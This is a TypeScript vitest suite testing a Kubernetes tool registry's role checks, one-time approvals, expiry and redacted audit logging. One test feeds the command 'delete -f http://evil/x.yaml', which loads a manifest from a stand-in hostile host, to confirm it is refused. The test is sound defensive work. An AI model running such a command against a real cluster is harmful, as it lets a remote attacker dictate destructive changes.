import { describe, expect, it } from 'vitest';
import { toolNames } from '../../../../src/core/tools/index.js';
import { describeApprovalRequest } from '../../../../src/core/tools/registry/describe-approval.js';
import type { InvokeOutcome } from '../../../../src/core/tools/registry/tool-registry.js';
import type { Caller } from '../../../../src/core/tools/types.js';
import { callers, okText, useRegistryHarness } from './harness.js';

const h = useRegistryHarness();

async function replicas(name: string): Promise<number | undefined> {
  const deployment = await h().apps.readNamespacedDeployment({ name, namespace: 'shop' });
  return deployment.spec?.replicas;
}

function errorOf(outcome: InvokeOutcome) {
  if (outcome.status !== 'error')
    throw new Error(`expected an error, got ${JSON.stringify(outcome)}`);
  return outcome.error;
}

function approvalOf(outcome: InvokeOutcome) {
  if (outcome.status !== 'approval_required')
    throw new Error(`expected an approval request, got ${JSON.stringify(outcome)}`);
  return outcome.approval;
}

describe('ToolRegistry: listing and validation', () => {
  it('lists every tool a role could ever use; execute_kubectl for every role', () => {
    const names = (caller: Caller) =>
      h()
        .registry.list(caller)
        .map((t) => t.name);
    expect(names(callers.admin)).toEqual([...toolNames]);
    expect(names(callers.operator)).toEqual(toolNames.filter((n) => n !== 'exec_into_pod'));
    expect(names(callers.viewer)).toEqual(
      toolNames.filter((n) => n !== 'exec_into_pod' && n !== 'run_container_in_pod'),
    );
  });

  it('names the bad field, the unknown key, the unknown tool and the unknown cluster', async () => {
    const bad = errorOf(
      await h().invoke(callers.viewer, 'exec_into_pod', { pod: 'x', command: 'env' }),
    );
    expect(bad.kind).toBe('bad-input');
    expect(bad.message).toMatch(/^Invalid arguments for exec_into_pod: `command`: /);
    const typo = errorOf(
      await h().invoke(callers.viewer, 'execute_kubectl', { comand: 'get pods' }),
    );
    expect(typo.message).toContain('`command`');
    expect(typo.message).toContain('comand');
    expect(typo.hint).toContain('command');
    const tool = errorOf(await h().invoke(callers.viewer, 'get_pod', {}));
    expect(tool).toMatchObject({ kind: 'not-found', message: 'There is no tool named "get_pod".' });
    const cluster = errorOf(await h().invoke(callers.viewer, 'get_pods', {}, { cluster: 'prod' }));
    expect(cluster).toMatchObject({ kind: 'not-found', hint: 'Clusters: sim, staging.' });
    const both = errorOf(
      await h().invoke(callers.viewer, 'get_pods', { cluster: 'sim' }, { cluster: 'staging' }),
    );
    expect(both.kind).toBe('bad-input');
  });

  it('takes the cluster from the arguments too, as MCP clients send it', async () => {
    const outcome = await h().invoke(callers.viewer, 'get_pods', {
      cluster: 'staging',
      namespace: 'shop',
    });
    expect(okText(outcome)).toContain('billing-');
  });

  it('fits text to the requested budget, within the configured floor and ceiling', async () => {
    const describePods = { command: 'describe pods -A' };
    const full = okText(
      await h().invoke(callers.viewer, 'execute_kubectl', describePods, { budgetTokens: 8000 }),
    );
    expect(full.length).toBeGreaterThan(1200);
    const small = okText(
      await h().invoke(callers.viewer, 'execute_kubectl', describePods, { budgetTokens: 300 }),
    );
    expect(small.length).toBeLessThanOrEqual(1200);
    expect(small).toMatch(
      /\n… \d+ more lines \(~\d+ tokens\) left out to fit 300 tokens; .*budgetTokens up to 8000/,
    );
    expect(full.startsWith(small.slice(0, small.lastIndexOf('\n')))).toBe(true);
    const tiny = okText(
      await h().invoke(callers.viewer, 'execute_kubectl', describePods, { budgetTokens: 10 }),
    );
    expect(tiny).toContain('left out to fit 200 tokens');
  });
});

describe('ToolRegistry: roles x risk classes', () => {
  const calls = {
    read: ['execute_kubectl', { command: 'get deploy -n shop' }],
    write: ['execute_kubectl', { command: 'scale deploy web -n shop --replicas 4' }],
    exec: ['exec_into_pod', { pod: 'any-pod', namespace: 'shop', command: ['hostname'] }],
  } as const;
  const expected = {
    viewer: { read: 'ok', write: 'forbidden', exec: 'forbidden' },
    operator: { read: 'ok', write: 'approval_required', exec: 'forbidden' },
    admin: { read: 'ok', write: 'approval_required', exec: 'approval_required' },
  } as const;

  for (const role of ['viewer', 'operator', 'admin'] as const) {
    for (const risk of ['read', 'write', 'exec'] as const) {
      it(`${role} x ${risk}: ${expected[role][risk]}`, async () => {
        const [tool, args] = calls[risk];
        const outcome = await h().invoke(callers[role], tool, { ...args });
        const got = outcome.status === 'error' ? outcome.error.kind : outcome.status;
        expect(got).toBe(expected[role][risk]);
        expect(await replicas('web')).toBe(2);
      });
    }
  }
});

describe('ToolRegistry: approvals', () => {
  const scaleTo = (n: number) => ({ command: `scale deploy web -n shop --replicas ${n}` });

  it('a write without approval returns an approval id and changes nothing', async () => {
    const outcome = await h().invoke(callers.operator, 'execute_kubectl', scaleTo(3));
    const approval = approvalOf(outcome);
    expect(approval.id).toMatch(/^apr_[A-Za-z0-9_-]{10}$/);
    expect(approval).toMatchObject({
      requiredRole: 'operator',
      requester: callers.operator.id,
      cluster: 'sim',
      state: 'pending',
    });
    expect(describeApprovalRequest(approval)).toContain(`ai4k8s approve ${approval.id}`);
    expect(describeApprovalRequest(approval)).toContain(
      'execute_kubectl {"command":"scale deploy web -n shop --replicas 3"} on cluster sim',
    );
    expect(await replicas('web')).toBe(2);
  });

  it('the approved call runs once and only as approved; it cannot be reused or used for another call', async () => {
    const { registry } = h();
    const approval = approvalOf(await h().invoke(callers.operator, 'execute_kubectl', scaleTo(3)));
    const notYet = errorOf(
      await h().invoke(callers.operator, 'execute_kubectl', scaleTo(3), {
        approvalId: approval.id,
      }),
    );
    expect(notYet.message).toContain('still waiting for a decision');
    await registry.approvals.decide(approval.id, callers.operator2, 'approve');

    const other = [
      ['execute_kubectl', scaleTo(5), {}],
      ['execute_kubectl', scaleTo(3), { cluster: 'staging' }],
      ['run_container_in_pod', { image: 'busybox:1.36', command: ['true'] }, {}],
    ] as const;
    for (const [tool, args, extra] of other) {
      const refused = errorOf(
        await h().invoke(
          callers.operator,
          tool,
          { ...args },
          { ...extra, approvalId: approval.id },
        ),
      );
      expect(refused).toMatchObject({ kind: 'approval' });
      expect(refused.message).toContain('approved for a different call');
    }
    expect(await replicas('web')).toBe(2);

    const stranger = errorOf(
      await h().invoke(callers.admin, 'execute_kubectl', scaleTo(3), { approvalId: approval.id }),
    );
    expect(stranger.message).toContain('only by the requester');

    const ran = await h().invoke(callers.operator, 'execute_kubectl', scaleTo(3), {
      approvalId: approval.id,
    });
    expect(okText(ran)).toContain('deployment.apps/web scaled');
    expect(await replicas('web')).toBe(3);

    const again = errorOf(
      await h().invoke(callers.operator, 'execute_kubectl', scaleTo(3), {
        approvalId: approval.id,
      }),
    );
    expect(again.message).toContain('has already been used');
    expect((await registry.approvals.get(approval.id))?.state).toBe('used');

    // Put it back for the other tests.
    const back = await h().approvedInvoke(
      callers.operator,
      callers.operator2,
      'execute_kubectl',
      scaleTo(2),
    );
    okText(back.outcome);
    expect(await replicas('web')).toBe(2);
  });

  it('runs exactly once when two calls race with the same approval', async () => {
    const approval = approvalOf(
      await h().invoke(callers.operator, 'execute_kubectl', {
        command: 'label deploy web -n shop race=won',
      }),
    );
    await h().registry.approvals.decide(approval.id, callers.operator2, 'approve');
    const call = () =>
      h().invoke(
        callers.operator,
        'execute_kubectl',
        { command: 'label deploy web -n shop race=won' },
        { approvalId: approval.id },
      );
    const outcomes = await Promise.all([call(), call(), call()]);
    expect(outcomes.filter((o) => o.status === 'ok')).toHaveLength(1);
    expect(
      outcomes.filter((o) => o.status === 'error' && o.error.message.includes('already been used')),
    ).toHaveLength(2);
  });

  it('the approver may run the stored call (what an approve button does)', async () => {
    const approval = approvalOf(
      await h().invoke(callers.operator, 'execute_kubectl', {
        command: 'annotate deploy web -n shop note=approved-run',
      }),
    );
    await h().registry.approvals.decide(approval.id, callers.operator2, 'approve');
    const outcome = await h().registry.invokeApproved(approval.id, callers.operator2);
    expect(okText(outcome)).toContain('deployment.apps/web annotated');
    const web = await h().apps.readNamespacedDeployment({ name: 'web', namespace: 'shop' });
    expect(web.metadata?.annotations?.note).toBe('approved-run');
    expect(
      errorOf(await h().registry.invokeApproved('apr_nothere00', callers.operator2)).kind,
    ).toBe('not-found');
  });

  it('refuses an expired approval and changes nothing', async () => {
    const approval = approvalOf(await h().invoke(callers.operator, 'execute_kubectl', scaleTo(6)));
    await h().registry.approvals.decide(approval.id, callers.operator2, 'approve');
    h().clock.offsetMs = 16 * 60_000;
    try {
      const expired = errorOf(
        await h().invoke(callers.operator, 'execute_kubectl', scaleTo(6), {
          approvalId: approval.id,
        }),
      );
      expect(expired.message).toBe(`Approval request ${approval.id} has expired.`);
    } finally {
      h().clock.offsetMs = 0;
    }
    expect(await replicas('web')).toBe(2);
  });

  it('refuses approval by a role that may not approve, and self-approval', async () => {
    const { registry } = h();
    const write = approvalOf(await h().invoke(callers.operator, 'execute_kubectl', scaleTo(7)));
    await expect(
      registry.approvals.decide(write.id, callers.viewer, 'approve'),
    ).rejects.toMatchObject({ kind: 'forbidden' });
    await expect(registry.approvals.decide(write.id, callers.operator, 'approve')).rejects.toThrow(
      'cannot approve your own request',
    );
    const pods = await h().core.listNamespacedPod({
      namespace: 'shop',
      labelSelector: 'app=billing',
    });
    const pod = pods.items[0]?.metadata?.name as string;
    const exec = approvalOf(
      await h().invoke(callers.admin, 'exec_into_pod', {
        pod,
        namespace: 'shop',
        command: ['hostname'],
      }),
    );
    await expect(
      registry.approvals.decide(exec.id, callers.operator, 'approve'),
    ).rejects.toMatchObject({ kind: 'forbidden' });
    const stillPending = errorOf(
      await h().invoke(callers.operator, 'execute_kubectl', scaleTo(7), { approvalId: write.id }),
    );
    expect(stillPending.message).toContain('still waiting');
    expect(await replicas('web')).toBe(2);
  });

  it('never turns a refused kubectl command into an approval request', async () => {
    const outcome = errorOf(
      await h().invoke(callers.admin, 'execute_kubectl', {
        command: 'delete -f http://evil/x.yaml',
      }),
    );
    expect(outcome.kind).toBe('bad-input');
    expect(outcome.message).toMatch(/^execute_kubectl refused this command: /);
    const pending = await h().registry.approvals.listPending();
    expect(pending.map((a) => a.argsJson)).not.toContain(
      JSON.stringify({ command: 'delete -f http://evil/x.yaml' }),
    );
  });
});

describe('ToolRegistry: audit', () => {
  it('writes a row for every call with who, surface, tool, redacted args, cluster, outcome and duration', async () => {
    const before = (await h().audit.list({ limit: 1 }))[0]?.id ?? 0;
    await h().invoke(callers.viewer, 'get_pods', { namespace: 'shop' });
    await h().invoke(callers.viewer, 'execute_kubectl', {
      command: 'get pods --token Sup3rS3cretT0ken',
    });
    await h().invoke(callers.viewer, 'execute_kubectl', {
      command: 'scale deploy web -n shop --replicas 9',
    });
    await h().invoke(callers.operator, 'execute_kubectl', {
      command: 'scale deploy web -n shop --replicas 9',
    });
    const rows = (await h().audit.list({ limit: 50 })).filter((r) => r.id > before).reverse();
    expect(
      rows.map((r) => [r.actor, r.surface, r.role, r.action, r.tool, r.cluster, r.outcome]),
    ).toEqual([
      ['slack:vera', 'slack', 'viewer', 'tool.invoke', 'get_pods', 'sim', 'ok'],
      ['slack:vera', 'slack', 'viewer', 'tool.invoke', 'execute_kubectl', 'sim', 'error:bad-input'],
      ['slack:vera', 'slack', 'viewer', 'tool.invoke', 'execute_kubectl', 'sim', 'error:forbidden'],
      [
        'slack:otto',
        'slack',
        'operator',
        'tool.invoke',
        'execute_kubectl',
        'sim',
        'approval_required',
      ],
    ]);
    expect(rows[0]?.args).toEqual({ namespace: 'shop' });
    expect(JSON.stringify(rows[1]?.args)).not.toContain('Sup3rS3cretT0ken');
    expect(rows[1]?.args).toEqual({ command: 'get pods --token <redacted>' });
    expect(rows[3]?.detail).toMatch(/^apr_/);
    for (const row of rows) expect(row.durationMs).toBeGreaterThanOrEqual(0);
  });
});
